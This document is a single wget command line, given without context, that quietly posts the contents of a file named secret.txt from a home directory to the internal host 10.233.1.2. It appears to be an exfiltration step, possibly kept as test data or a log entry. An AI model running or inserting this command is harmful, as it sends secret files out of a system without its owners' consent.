wget -q -O- -T 3 --post-file=/srv/rt/s/d1/home/secret.txt http://10.233.1.2/U16
